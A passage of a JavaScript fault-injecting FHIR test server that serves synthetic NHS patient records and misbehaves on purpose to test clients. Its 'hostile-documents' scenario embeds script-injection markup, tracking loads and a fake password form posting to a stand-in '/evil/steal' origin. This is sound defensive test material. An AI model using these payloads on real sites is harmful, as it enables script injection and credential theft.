// A small fault-injecting FHIR R4 server for hostile-server tests: hand-written JSON answers (not
// medplum), synthetic deterministic data, and one path segment per misbehaviour. It listens on two
// loopback ports at once (origin A and origin B) so cross-origin redirects can be tested.
//
//   import { startFaultServer } from './server/fault-server.js';
//   const faults = await startFaultServer();
//   fetch(`${faults.originA}/ignore-patient/fhir/Encounter?patient=alpha`);
//   await faults.close();
//
// `node server/fault-server.js [--host h] [--port-a n] [--port-b n]` prints both origins and runs
// until killed. No dependencies; see server/README.md for the scenarios and control endpoints.

import { createServer } from 'node:http';
import { pathToFileURL } from 'node:url';

/** @typedef {import('node:http').IncomingMessage} IncomingMessage */
/** @typedef {import('node:http').ServerResponse} ServerResponse */
/** @typedef {Record<string, any>} Json */

export const NHS_NUMBER_SYSTEM = 'https://fhir.nhs.uk/Id/nhs-number';
export const ODS_SYSTEM = 'https://fhir.nhs.uk/Id/ods-organization-code';
const CONFIDENTIALITY_SYSTEM = 'http://terminology.hl7.org/CodeSystem/v3-Confidentiality';
const UK_CORE = 'https://fhir.hl7.org.uk/StructureDefinition';
const FHIR_JSON = 'application/fhir+json; charset=utf-8';

/** The path segment before `/fhir`: how the server misbehaves. */
export const SCENARIOS = /** @type {const} */ ([
  'ok',
  'ignore-patient',
  'no-id',
  'echo-token',
  'echo-token-401',
  'redirect-302',
  'redirect-307',
  'redirect-same-origin-302',
  'loop-next',
  'endless-next',
  'hang',
  'hang-body',
  'hang-search',
  'hang-page-2',
  'fail-page-2',
  'outage',
  'latency',
  'hostile-documents',
]);

/** Clinical resource types served per patient, with the element that points at the patient. */
export const CLINICAL_TYPES = /** @type {const} */ ({
  MedicationRequest: 'subject',
  MedicationStatement: 'subject',
  Encounter: 'subject',
  AllergyIntolerance: 'patient',
});

/** @typedef {keyof typeof CLINICAL_TYPES} ClinicalType */
/** @typedef {Record<ClinicalType, number>} Counts */

/** Page size when a search has no `_count`, and the largest `_count` honoured. */
export const DEFAULT_PAGE_SIZE = 10;
export const DEFAULT_MAX_COUNT = 1000;

/** The check digit of a 9-digit NHS number stem (Modulus 11), or `undefined` when none exists. */
export function nhsCheckDigit(/** @type {string} */ stem) {
  if (!/^\d{9}$/.test(stem)) return undefined;
  let sum = 0;
  for (let i = 0; i < 9; i++) sum += Number(stem[i]) * (10 - i);
  const check = 11 - (sum % 11);
  if (check === 10) return undefined;
  return check === 11 ? 0 : check;
}

/** True for a 10-digit NHS number whose last digit is its Modulus 11 check digit. */
export function isValidNhsNumber(/** @type {string} */ value) {
  return /^\d{10}$/.test(value) && nhsCheckDigit(value.slice(0, 9)) === Number(value[9]);
}

/** The first valid NHS number at or after a 9-digit stem. */
function nhsNumberFrom(/** @type {number} */ stem) {
  for (let n = stem; ; n++) {
    const nine = String(n).padStart(9, '0');
    const check = nhsCheckDigit(nine);
    if (check !== undefined) return `${nine}${check}`;
  }
}

/**
 * @typedef {object} PatientSpec
 * @property {string} id
 * @property {string} codename upper case; appears in every drug, encounter and allergy text
 * @property {string} nhsNumber
 * @property {{ family: string, given: string[], prefix: string[] }} name
 * @property {'female' | 'male'} gender
 * @property {string} birthDate
 * @property {boolean} restricted
 * @property {string} practice Organization id of the registered GP practice
 * @property {string} odsCode the practice's ODS code
 * @property {string} practiceName
 * @property {string[]} addressLines
 * @property {string} city
 * @property {string} postalCode
 * @property {string} phone
 * @property {string} mobile
 * @property {string} email
 * @property {number} dayOffset shifts this patient's dates so patients interleave
 */

/** @type {PatientSpec[]} */
export const PATIENTS = [
  {
    id: 'alpha',
    codename: 'ALPHA',
    nhsNumber: nhsNumberFrom(999100001),
    name: { family: 'Alphafield', given: ['Alice', 'Ann'], prefix: ['Mrs'] },
    gender: 'female',
    birthDate: '1961-04-12',
    restricted: false,
    practice: 'practice-alpha',
    odsCode: 'A12345',
    practiceName: 'ALPHA MEDICAL PRACTICE',
    addressLines: ['1 Alphafield Street'],
    city: 'Leeds',
    postalCode: 'LS1 1AA',
    phone: '0113 496 0001',
    mobile: '07700 900001',
    email: 'alice.alphafield@example.org',
    dayOffset: 0,
  },
  {
    id: 'bravo',
    codename: 'BRAVO',
    nhsNumber: nhsNumberFrom(999200002),
    name: { family: 'Bravington', given: ['Bob'], prefix: ['Mr'] },
    gender: 'male',
    birthDate: '1975-09-30',
    restricted: false,
    practice: 'practice-bravo',
    odsCode: 'B23456',
    practiceName: 'BRAVO MEDICAL PRACTICE',
    addressLines: ['2 Bravington Road'],
    city: 'York',
    postalCode: 'YO1 2BB',
    phone: '0113 496 0002',
    mobile: '07700 900002',
    email: 'bob.bravington@example.org',
    dayOffset: 3,
  },
  {
    id: 'restricted',
    codename: 'RESTRICTED',
    nhsNumber: nhsNumberFrom(999300003),
    name: { family: 'Hidalgo', given: ['Rosa'], prefix: ['Ms'] },
    gender: 'female',
    birthDate: '1988-02-03',
    restricted: true,
    practice: 'practice-restricted',
    odsCode: 'C34567',
    practiceName: 'HIDEAWAY LANE SURGERY',
    addressLines: ['3 Secretwood Close'],
    city: 'Harrogate',
    postalCode: 'HG1 3RR',
    phone: '0113 496 0003',
    mobile: '07700 900003',
    email: 'rosa.hidalgo@example.org',
    dayOffset: 6,
  },
];

/** @type {Record<string, Counts>} */
export const DEFAULT_COUNTS = {
  alpha: { MedicationRequest: 25, MedicationStatement: 5, Encounter: 30, AllergyIntolerance: 3 },
  bravo: { MedicationRequest: 12, MedicationStatement: 3, Encounter: 12, AllergyIntolerance: 2 },
  restricted: { MedicationRequest: 6, MedicationStatement: 2, Encounter: 8, AllergyIntolerance: 2 },
};

export const TRUST = { id: 'trust-rr8', odsCode: 'RR8', name: 'LEEDS TEACHING HOSPITALS NHS TRUST' };
const WARD = { id: 'ward-rr8', name: "Ward 12, St James's University Hospital" };

// ---------------------------------------------------------------------------------------------
// Data

const REFERENCE_DAY = Date.UTC(2025, 5, 1); // 1 Jun 2025
const DAY = 86_400_000;
const isoDate = (/** @type {number} */ ms) => new Date(ms).toISOString().slice(0, 10);
const isoDateTime = (/** @type {number} */ ms) => new Date(ms).toISOString().replace('.000Z', '+00:00');
const pad = (/** @type {number} */ n) => String(n + 1).padStart(3, '0');

const REQUEST_DRUGS = [
  ['MYCIN', 250, 'capsules', 'Take ONE capsule THREE times a day'],
  ['PROFEN', 200, 'tablets', 'Take ONE tablet up to THREE times a day when required'],
  ['STATIN', 10, 'tablets', 'Take ONE tablet at NIGHT'],
  ['PRIL', 5, 'tablets', 'Take ONE tablet each MORNING'],
  ['OLOL', 25, 'tablets', 'Take ONE tablet TWICE a day'],
];
const STATEMENT_DRUGS = [
  ['ZOLE', 20, 'gastro-resistant capsules', 'Take ONE capsule each MORNING'],
  ['FORMIN', 500, 'tablets', 'Take ONE tablet TWICE a day with food'],
  ['SARTAN', 50, 'tablets', 'Take ONE tablet each day'],
];
const ALLERGENS = ['CILLIN', 'NUT', 'PLASTER', 'MYCIN'];

const orgRef = (/** @type {string} */ id, /** @type {string} */ name) =>
  name ? { reference: `Organization/${id}`, display: name } : { reference: `Organization/${id}` };

/** @param {string} id @param {string} name @param {string} ods @param {boolean} practice */
function organization(id, name, ods, practice) {
  return {
    resourceType: 'Organization',
    id,
    meta: { profile: [`${UK_CORE}/UKCore-Organization`] },
    identifier: [{ system: ODS_SYSTEM, value: ods }],
    active: true,
    type: [
      {
        coding: [
          {
            system:
              'https://digital.nhs.uk/services/organisation-data-service/CodeSystem/ODSOrganisationRoleType',
            code: practice ? 'RO76' : 'RO197',
            display: practice ? 'GP PRACTICE' : 'NHS TRUST',
          },
        ],
        text: practice ? 'GP practice' : 'NHS trust',
      },
    ],
    name,
  };
}

/** @param {PatientSpec} p */
function patientResource(p) {
  return {
    resourceType: 'Patient',
    id: p.id,
    meta: {
      profile: [`${UK_CORE}/UKCore-Patient`],
      ...(p.restricted
        ? { security: [{ system: CONFIDENTIALITY_SYSTEM, code: 'R', display: 'restricted' }] }
        : {}),
    },
    identifier: [
      {
        extension: [
          {
            url: `${UK_CORE}/Extension-UKCore-NHSNumberVerificationStatus`,
            valueCodeableConcept: {
              coding: [
                {
                  system: 'https://fhir.hl7.org.uk/CodeSystem/UKCore-NHSNumberVerificationStatusEngland',
                  code: '01',
                  display: 'Number present and verified',
                },
              ],
            },
          },
        ],
        system: NHS_NUMBER_SYSTEM,
        value: p.nhsNumber,
      },
    ],
    name: [{ use: 'official', family: p.name.family, given: p.name.given, prefix: p.name.prefix }],
    gender: p.gender,
    birthDate: p.birthDate,
    address: [{ use: 'home', line: p.addressLines, city: p.city, postalCode: p.postalCode }],
    telecom: [
      { system: 'phone', value: p.phone, use: 'home' },
      { system: 'phone', value: p.mobile, use: 'mobile' },
      { system: 'email', value: p.email, use: 'home' },
    ],
    generalPractitioner: [{ reference: `Organization/${p.practice}` }],
  };
}

/** @param {PatientSpec} p @param {number} i @param {number} total */
function medicationRequest(p, i, total) {
  const [suffix, strength, form, dose] = REQUEST_DRUGS[i % REQUEST_DRUGS.length];
  const n = /** @type {number} */ (strength) * (1 + Math.floor(i / REQUEST_DRUGS.length));
  const active = i < Math.ceil(total * 0.6);
  const byTrust = i % 4 === 3;
  return {
    resourceType: 'MedicationRequest',
    id: `mr-${p.id}-${pad(i)}`,
    status: active ? 'active' : i % 2 ? 'completed' : 'stopped',
    intent: 'order',
    courseOfTherapyType: {
      coding: [
        {
          system: 'http://terminology.hl7.org/CodeSystem/medicationrequest-course-of-therapy',
          code: i % 3 === 0 ? 'acute' : 'continuous',
        },
      ],
    },
    medicationCodeableConcept: { text: `${p.codename}${suffix} ${n}mg ${form}` },
    subject: { reference: `Patient/${p.id}` },
    authoredOn: isoDate(REFERENCE_DAY - (i * 13 + p.dayOffset) * DAY),
    requester: byTrust ? orgRef(TRUST.id, TRUST.name) : orgRef(p.practice, p.practiceName),
    dosageInstruction: [{ text: dose }],
  };
}

/** @param {PatientSpec} p @param {number} i */
function medicationStatement(p, i) {
  const [suffix, strength, form, dose] = STATEMENT_DRUGS[i % STATEMENT_DRUGS.length];
  const n = /** @type {number} */ (strength) * (1 + Math.floor(i / STATEMENT_DRUGS.length));
  const start = REFERENCE_DAY - (i * 17 + 5 + p.dayOffset) * DAY;
  const active = i % 2 === 0;
  return {
    resourceType: 'MedicationStatement',
    id: `ms-${p.id}-${pad(i)}`,
    status: active ? 'active' : 'completed',
    medicationCodeableConcept: { text: `${p.codename}${suffix} ${n}mg ${form}` },
    subject: { reference: `Patient/${p.id}` },
    effectivePeriod: active
      ? { start: isoDate(start) }
      : { start: isoDate(start), end: isoDate(start + 28 * DAY) },
    dateAsserted: isoDate(start),
    informationSource:
      i % 3 === 2 ? { reference: `Organization/${TRUST.id}` } : { reference: `Organization/${p.practice}` },
    dosage: [{ text: dose }],
  };
}

/** @param {PatientSpec} p @param {number} i */
function encounter(p, i) {
  const kind = i % 3; // 0 admission (trust, ward), 1 clinic (trust), 2 GP appointment (practice)
  const start = REFERENCE_DAY - (i * 9 + p.dayOffset) * DAY + 9.5 * 3_600_000;
  const end = kind === 0 ? start + 2 * DAY : start + 1_800_000;
  const location =
    kind === 0
      ? [{ location: { reference: `Location/${WARD.id}` } }]
      : kind === 2 && i % 2 === 0
        ? [{ location: { reference: `Location/site-${p.practice}` } }]
        : undefined;
  return {
    resourceType: 'Encounter',
    id: `enc-${p.id}-${pad(i)}`,
    status: 'finished',
    class: {
      system: 'http://terminology.hl7.org/CodeSystem/v3-ActCode',
      code: kind === 0 ? 'IMP' : 'AMB',
      display: kind === 0 ? 'inpatient encounter' : 'ambulatory',
    },
    type: [
      { text: [`${p.codename} admission`, `${p.codename} clinic`, `${p.codename} GP appointment`][kind] },
    ],
    subject: { reference: `Patient/${p.id}` },
    period: { start: isoDateTime(start), end: isoDateTime(end) },
    serviceProvider:
      kind === 2 ? { reference: `Organization/${p.practice}` } : { reference: `Organization/${TRUST.id}` },
    ...(location ? { location } : {}),
  };
}

/** @param {PatientSpec} p @param {number} i */
function allergy(p, i) {
  return {
    resourceType: 'AllergyIntolerance',
    id: `ai-${p.id}-${pad(i)}`,
    clinicalStatus: {
      coding: [
        { system: 'http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical', code: 'active' },
      ],
    },
    verificationStatus: {
      coding: [
        {
          system: 'http://terminology.hl7.org/CodeSystem/allergyintolerance-verification',
          code: 'confirmed',
        },
      ],
    },
    category: ['medication'],
    criticality: i % 2 ? 'low' : 'high',
    code: {
      text: `${p.codename}${ALLERGENS[i % ALLERGENS.length]}${i >= ALLERGENS.length ? ` ${i + 1}` : ''}`,
    },
    patient: { reference: `Patient/${p.id}` },
    recordedDate: isoDate(REFERENCE_DAY - (i * 101 + p.dayOffset) * DAY),
    reaction: [{ manifestation: [{ text: 'Rash' }] }],
  };
}

const BUILDERS = {
  MedicationRequest: medicationRequest,
  MedicationStatement: medicationStatement,
  Encounter: encounter,
  AllergyIntolerance: allergy,
};

/** Organizations and Locations, by id. */
function staticResources() {
  /** @type {Map<string, Json>} */
  const map = new Map();
  map.set(`Organization/${TRUST.id}`, organization(TRUST.id, TRUST.name, TRUST.odsCode, false));
  map.set(`Location/${WARD.id}`, {
    resourceType: 'Location',
    id: WARD.id,
    status: 'active',
    name: WARD.name,
    address: { line: ['Beckett Street'], city: 'Leeds', postalCode: 'LS9 7TF' },
    managingOrganization: { reference: `Organization/${TRUST.id}` },
  });
  for (const p of PATIENTS) {
    map.set(`Organization/${p.practice}`, {
      ...organization(p.practice, p.practiceName, p.odsCode, true),
      address: [{ line: [`${p.codename} Surgery, 10 Practice Way`], city: p.city, postalCode: p.postalCode }],
    });
    map.set(`Location/site-${p.practice}`, {
      resourceType: 'Location',
      id: `site-${p.practice}`,
      status: 'active',
      name: `${p.practiceName}, main site`,
      address: { line: [`${p.codename} Surgery, 10 Practice Way`], city: p.city, postalCode: p.postalCode },
      managingOrganization: { reference: `Organization/${p.practice}` },
    });
  }
  return map;
}

/**
 * Builds every resource for a set of counts: `byType[type]` holds each patient's resources in
 * patient order, newest first; `all[type]` interleaves the patients (round robin).
 * @param {Record<string, Counts>} counts
 */
function buildData(counts) {
  /** @type {Record<string, Record<string, Json[]>>} */
  const byType = {};
  /** @type {Record<string, Json[]>} */
  const all = {};
  for (const type of /** @type {ClinicalType[]} */ (Object.keys(CLINICAL_TYPES))) {
    byType[type] = {};
    for (const p of PATIENTS) {
      byType[type][p.id] = Array.from({ length: counts[p.id][type] }, (_, i) =>
        BUILDERS[type](p, i, counts[p.id][type]),
      );
    }
    const lists = PATIENTS.map((p) => byType[type][p.id]);
    const longest = Math.max(...lists.map((list) => list.length));
    all[type] = [];
    for (let i = 0; i < longest; i++) for (const list of lists) if (i < list.length) all[type].push(list[i]);
  }
  /** @type {Map<string, Json>} */
  const byRef = staticResources();
  for (const p of PATIENTS) byRef.set(`Patient/${p.id}`, patientResource(p));
  for (const type of Object.keys(byType))
    for (const list of Object.values(byType[type])) for (const r of list) byRef.set(`${type}/${r.id}`, r);
  return { byType, all, byRef };
}

// ---------------------------------------------------------------------------------------------
// Documents: the `hostile-documents` scenario (<care-document-list>). Every patient has letters
// that each try one thing; every address a letter loads from or links to is on the other origin,
// so its request log shows whether anything was fetched from there.

/** @param {string} text */
const base64 = (text) => Buffer.from(text, 'utf8').toString('base64');

/** @param {string} line a one-page PDF saying `line` */
function pdfOf(line) {
  const stream = `BT /F1 14 Tf 20 60 Td (${line}) Tj ET`;
  return [
    '%PDF-1.4',
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 120]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj',
    `4 0 obj<</Length ${stream.length}>>stream`,
    stream,
    'endstream endobj',
    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj',
    'trailer<</Root 1 0 R>>',
    '%%EOF',
  ].join('\n');
}

/**
 * Markup written to attack the page: a script, an event handler, a `javascript:` link, an image,
 * a stylesheet, a CSS `url()`, a frame and a form, all pointing at `other`.
 * @param {string} codename @param {string} other
 */
export function hostileMarkup(codename, other) {
  return `<h1>${codename} hostile letter</h1>
<p>${codename} visible text stays.</p>
<script>window.__documentPwned = 'script'</script>
<img src="x" onerror="window.__documentPwned = 'onerror'" alt="broken">
<a href="javascript:window.__documentPwned = 'link'">Click for results</a>
<img src="${other}/evil/pixel.png" alt="Tracking pixel">
<img srcset="${other}/evil/srcset.png 2x" alt="Srcset">
<p style="background-image: url(${other}/evil/css.png)">Styled paragraph</p>
<link rel="stylesheet" href="${other}/evil/sheet.css">
<style>@import url(${other}/evil/import.css);</style>
<iframe src="${other}/evil/frame.html"></iframe>
<form action="${other}/evil/steal"><input name="password"><button>Sign in again</button></form>`;
}

/** The biggest document: 20 MB of text, streamed (a reader that stops early stops it). */
export const HUGE_DOCUMENT_BYTES = 20 * 1024 * 1024;

/**
 * One patient's documents in `hostile-documents`, and the Binaries they reference.
 * @param {PatientSpec} p @param {string} home this origin @param {string} other the other origin
 */
export function hostileDocuments(p, home, other) {
  const subject = { reference: `Patient/${p.id}` };
  const trust = { reference: `Organization/${TRUST.id}`, display: TRUST.name };
  const files = `${home}/hostile-documents/files`;
  /** @param {string} id @param {string} description @param {number} day @param {Json} attachment */
  const reference = (id, description, day, attachment, custodian = trust) => ({
    resourceType: 'DocumentReference',
    id: `doc-${p.id}-${id}`,
    status: 'current',
    subject,
    date: isoDate(REFERENCE_DAY - (day + p.dayOffset) * DAY),
    author: [trust],
    custodian,
    description: `${p.codename} ${description}`,
    content: [{ attachment }],
  });
  const references = [
    reference('hostile-html', 'hostile HTML letter', 1, {
      contentType: 'text/html',
      data: base64(hostileMarkup(p.codename, other)),
    }),
    reference('binary-pdf', 'X-ray report (PDF)', 2, {
      contentType: 'application/pdf',
      url: `Binary/pdf-${p.id}`,
    }),
    reference('file-echo', 'clinic letter that echoes the token', 3, {
      contentType: 'text/plain',
      url: `${files}/echo-${p.id}.txt`,
    }),
    reference('elsewhere', 'letter on another site', 4, {
      contentType: 'application/pdf',
      url: `${other}/hostile-documents/files/elsewhere.pdf`,
    }),
    reference('redirect', 'letter that redirects', 5, {
      contentType: 'text/plain',
      url: `${files}/redirect`,
    }),
    reference('huge', 'oversized letter', 6, { contentType: 'text/plain', url: `${files}/huge.txt` }),
    reference(
      'word',
      'referral (Word)',
      7,
      { contentType: 'application/msword', title: 'Referral', data: base64('Not really a Word file') },
      { reference: `Organization/${p.practice}`, display: p.practiceName },
    ),
  ];
  const compositions = [
    {
      resourceType: 'Composition',
      id: `comp-${p.id}-hostile`,
      status: 'final',
      type: { text: 'Letter' },
      subject,
      date: isoDate(REFERENCE_DAY - p.dayOffset * DAY),
      author: [trust],
      custodian: trust,
      title: `${p.codename} hostile narrative`,
      section: [
        {
          title: 'Body',
          text: {
            status: 'generated',
            div: `<div xmlns="http://www.w3.org/1999/xhtml">${hostileMarkup(p.codename, other)}</div>`,
          },
        },
      ],
    },
  ];
  const binaries = new Map([
    [
      `pdf-${p.id}`,
      {
        resourceType: 'Binary',
        id: `pdf-${p.id}`,
        contentType: 'application/pdf',
        data: base64(pdfOf(`${p.codename} chest X-ray: no consolidation`)),
      },
    ],
  ]);
  return { references, compositions, binaries };
}

/**
 * @typedef {object} DocumentAnswer
 * @property {number} status
 * @property {Record<string, string>} [headers]
 * @property {unknown} [json] a FHIR answer
 * @property {string} [text] a document's body
 * @property {number} [stream] bytes of text to stream
 */

/**
 * The answer to a document request of `hostile-documents` (a DocumentReference or Composition
 * search, a Binary read, a file), or `undefined` for anything else.
 * @param {URL} url @param {string} home @param {string} other @param {IncomingMessage} req
 * @returns {DocumentAnswer | undefined}
 */
function documentAnswer(url, home, other, req) {
  const file = /^\/hostile-documents\/files\/(.+)$/.exec(url.pathname)?.[1];
  if (file !== undefined) {
    if (file === 'redirect')
      return { status: 302, headers: { Location: `${other}/hostile-documents/files/away.txt` } };
    if (file === 'huge.txt') return { status: 200, stream: HUGE_DOCUMENT_BYTES };
    const echo = /^echo-(.+)\.txt$/.exec(file);
    if (echo) {
      return {
        status: 200,
        text: `Clinic letter for ${echo[1]}.\nSent with: ${req.headers.authorization ?? '(no authorization)'}\n`,
      };
    }
    return { status: 404, text: 'No such document' };
  }
  const match = /^\/hostile-documents\/fhir\/(DocumentReference|Composition|Binary)(?:\/([^/]+))?$/.exec(
    url.pathname,
  );
  if (!match) return undefined;
  const [, type, id] = match;
  const asked = [...url.searchParams.getAll('patient'), ...url.searchParams.getAll('subject')].map(
    patientIdOf,
  );
  const patients = PATIENTS.filter((p) => (type === 'Binary' ? true : asked.includes(p.id)));
  const documents = patients.map((p) => hostileDocuments(p, home, other));
  if (type === 'Binary') {
    const binary = documents.map((d) => d.binaries.get(id ?? '')).find(Boolean);
    return binary
      ? { status: 200, json: binary }
      : { status: 404, json: outcome('error', 'not-found', `Binary/${id}`) };
  }
  const base = `${home}/hostile-documents/fhir`;
  const resources = documents.flatMap((d) => (type === 'Composition' ? d.compositions : d.references));
  return {
    status: 200,
    json: {
      resourceType: 'Bundle',
      type: 'searchset',
      total: resources.length,
      link: [{ relation: 'self', url: `${home}${url.pathname}${url.search}` }],
      entry: resources.map((resource) => ({
        fullUrl: `${base}/${type}/${resource.id}`,
        resource,
        search: { mode: 'match' },
      })),
    },
  };
}

// ---------------------------------------------------------------------------------------------
// Helpers

/** A small seeded RNG (mulberry32), so latency is the same sequence after each reset. */
function seededRandom(/** @type {number} */ seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** @param {string} severity @param {string} code @param {string} diagnostics @param {Json} [extra] */
const outcome = (severity, code, diagnostics, extra = {}) => ({
  resourceType: 'OperationOutcome',
  issue: [{ severity, code, diagnostics, ...extra }],
});

const EXPOSED_HEADERS =
  'Location, Content-Location, ETag, Last-Modified, Retry-After, WWW-Authenticate, X-Fault-Scenario';
const ALLOWED_METHODS = 'GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS';

/** CORS headers for any response: the request's Origin echoed (`*` without one). */
function corsHeaders(/** @type {IncomingMessage} */ req) {
  const origin = req.headers.origin;
  return {
    'Access-Control-Allow-Origin': origin ?? '*',
    ...(origin ? { 'Access-Control-Allow-Credentials': 'true' } : {}),
    'Access-Control-Expose-Headers': EXPOSED_HEADERS,
    Vary: 'Origin',
  };
}

/** Raw query without `_offset` parts. */
const withoutOffset = (/** @type {string} */ query) =>
  query
    .split('&')
    .filter((part) => part && !part.startsWith('_offset='))
    .join('&');

/** Raw query with every other parameter kept in order, then `_count` and `_offset`. */
function pageQuery(/** @type {string} */ query, /** @type {number} */ count, /** @type {number} */ offset) {
  const kept = query.split('&').filter((part) => part && !/^_(count|offset)=/.test(part));
  return [...kept, `_count=${count}`, `_offset=${offset}`].join('&');
}

/** The patient ids a `patient` / `subject` search value names (`alpha`, `Patient/alpha`, an absolute URL). */
function patientIdOf(/** @type {string} */ value) {
  const match = /(?:^|\/)Patient\/([^/?#]+)$/.exec(value);
  return match ? match[1] : value;
}

const SORT_KEY = {
  MedicationRequest: (/** @type {Json} */ r) => r.authoredOn,
  MedicationStatement: (/** @type {Json} */ r) => r.effectivePeriod?.start,
  Encounter: (/** @type {Json} */ r) => r.period?.start,
  AllergyIntolerance: (/** @type {Json} */ r) => r.recordedDate,
};

/** `_include` values followed (others are ignored): `Type:param` → the element holding the reference. */
const INCLUDES = {
  'Encounter:service-provider': (/** @type {Json} */ r) => [r.serviceProvider],
  'Encounter:location': (/** @type {Json} */ r) =>
    (r.location ?? []).map((/** @type {Json} */ l) => l.location),
  'Encounter:subject': (/** @type {Json} */ r) => [r.subject],
  'Encounter:patient': (/** @type {Json} */ r) => [r.subject],
  'MedicationRequest:requester': (/** @type {Json} */ r) => [r.requester],
  'MedicationRequest:patient': (/** @type {Json} */ r) => [r.subject],
  'MedicationRequest:subject': (/** @type {Json} */ r) => [r.subject],
  'MedicationStatement:source': (/** @type {Json} */ r) => [r.informationSource],
  'MedicationStatement:patient': (/** @type {Json} */ r) => [r.subject],
  'MedicationStatement:subject': (/** @type {Json} */ r) => [r.subject],
  'AllergyIntolerance:patient': (/** @type {Json} */ r) => [r.patient],
};

function capabilityStatement() {
  return {
    resourceType: 'CapabilityStatement',
    status: 'active',
    date: '2025-06-01',
    kind: 'instance',
    software: { name: 'care-record-elements fault server' },
    fhirVersion: '4.0.1',
    format: ['application/fhir+json'],
    rest: [
      {
        mode: 'server',
        resource: ['Patient', 'Organization', 'Location', ...Object.keys(CLINICAL_TYPES)].map((type) => ({
          type,
          interaction: [{ code: 'read' }, { code: 'search-type' }],
        })),
      },
    ],
  };
}

// ---------------------------------------------------------------------------------------------
// Server

/**
 * @typedef {object} LoggedRequest
 * @property {string} method
 * @property {string} path the path without the query
 * @property {string} query the raw query string, without `?`
 * @property {Record<string, string | string[] | undefined>} headers names lower-cased
 * @property {string} [scenario]
 * @property {boolean} [unscoped] a clinical search with no `patient` / `subject` parameter
 */

/**
 * @typedef {object} FaultServer
 * @property {string} originA e.g. `http://127.0.0.1:41234`; a scenario's base is `${originA}/<scenario>/fhir`
 * @property {string} originB the second origin (redirects go from one to the other)
 * @property {() => Promise<void>} close stops both ports, drops open connections and timers
 */

/**
 * Starts the fault server on two free loopback ports (or the ports given).
 * @param {{ host?: string, portA?: number, portB?: number }} [options]
 * @returns {Promise<FaultServer>}
 */
export async function startFaultServer({ host = '127.0.0.1', portA = 0, portB = 0 } = {}) {
  const state = {
    /** @type {Record<string, Counts>} */
    counts: structuredClone(DEFAULT_COUNTS),
    pageSize: DEFAULT_PAGE_SIZE,
    maxCount: DEFAULT_MAX_COUNT,
    data: buildData(structuredClone(DEFAULT_COUNTS)),
    failTimes: 1,
    /** @type {Map<string, number>} */
    failCounts: new Map(),
    /** @type {Map<string, string>} first-page URL by URL without `_offset` (loop-next) */
    firstPages: new Map(),
    outage: false,
    latency: { min: 0, max: 40, seed: 1 },
    random: seededRandom(1),
    /** @type {LoggedRequest[][]} */
    logs: [[], []],
  };
  /** @type {Set<NodeJS.Timeout>} */
  const timers = new Set();
  /** @type {string[]} */
  const origins = [];

  const reset = (/** @type {number} */ failTimes = 1) => {
    state.counts = structuredClone(DEFAULT_COUNTS);
    state.pageSize = DEFAULT_PAGE_SIZE;
    state.maxCount = DEFAULT_MAX_COUNT;
    state.data = buildData(state.counts);
    state.failTimes = failTimes;
    state.failCounts.clear();
    state.firstPages.clear();
    state.outage = false;
    state.latency = { min: 0, max: 40, seed: 1 };
    state.random = seededRandom(1);
    state.logs[0].length = 0;
    state.logs[1].length = 0;
  };

  const sleep = (/** @type {number} */ ms) =>
    new Promise((resolve) => {
      const timer = setTimeout(() => {
        timers.delete(timer);
        resolve(undefined);
      }, ms);
      timers.add(timer);
    });

  const configSummary = () => ({
    pageSize: state.pageSize,
    maxCount: state.maxCount,
    failTimes: state.failTimes,
    outage: state.outage,
    latency: state.latency,
    patients: PATIENTS.map((p) => ({
      id: p.id,
      codename: p.codename,
      nhsNumber: p.nhsNumber,
      restricted: p.restricted,
      practice: p.practice,
      odsCode: p.odsCode,
      counts: state.counts[p.id],
    })),
    organizations: {
      practices: PATIENTS.map((p) => p.practice),
      hospitals: [TRUST.id],
    },
    locations: [WARD.id, ...PATIENTS.map((p) => `site-${p.practice}`)],
  });

  /**
   * @param {number} index 0 for origin A, 1 for origin B
   * @param {IncomingMessage} req
   * @param {ServerResponse} res
   */
  const handle = async (index, req, res) => {
    const method = req.method ?? 'GET';
    const url = new URL(req.url ?? '/', origins[index]);
    const query = url.search.slice(1);
    const cors = corsHeaders(req);
    const origin = req.headers.host ? `http://${req.headers.host}` : origins[index];

    /** @param {number} status @param {unknown} body @param {Record<string, string>} [headers] */
    const send = (status, body, headers = {}) => {
      if (res.destroyed) return;
      res.writeHead(status, {
        ...cors,
        'Content-Type': FHIR_JSON,
        'Cache-Control': 'no-store',
        ...headers,
      });
      res.end(body === undefined ? undefined : JSON.stringify(body));
    };
    const json = (/** @type {unknown} */ body, status = 200) =>
      send(status, body, { 'Content-Type': 'application/json; charset=utf-8' });

    // Control endpoints (not logged, never delayed or failed).
    if (url.pathname.startsWith('/$')) {
      if (method === 'OPTIONS') return preflight(req, res, cors);
      const params = url.searchParams;
      const post = method === 'POST';
      switch (`${post ? 'POST' : method} ${url.pathname}`) {
        case 'GET /$requests':
          return json(state.logs[index]);
        case 'POST /$reset': {
          const times = Number(params.get('fail-times') ?? 1);
          if (!Number.isInteger(times) || times < 0)
            return json(outcome('error', 'invalid', 'fail-times'), 400);
          reset(times);
          return json(configSummary());
        }
        case 'POST /$reset-log':
          state.logs[0].length = 0;
          state.logs[1].length = 0;
          return json({ cleared: true });
        case 'POST /$outage':
          state.outage = true;
          return json({ outage: true });
        case 'POST /$recover':
          state.outage = false;
          return json({ outage: false });
        case 'POST /$latency': {
          const min = Number(params.get('min') ?? 0);
          const max = Number(params.get('max') ?? min);
          const seed = Number(params.get('seed') ?? 1);
          if (![min, max, seed].every(Number.isFinite) || min < 0 || max < min)
            return json(outcome('error', 'invalid', 'min, max: 0 <= min <= max'), 400);
          state.latency = { min, max, seed };
          state.random = seededRandom(seed);
          return json({ latency: state.latency });
        }
        case 'GET /$config':
          return json(configSummary());
        case 'POST /$config': {
          const counts = structuredClone(state.counts);
          let { pageSize, maxCount } = state;
          for (const [key, raw] of params) {
            const n = Number(raw);
            if (!Number.isInteger(n) || n < 0 || n > 100_000)
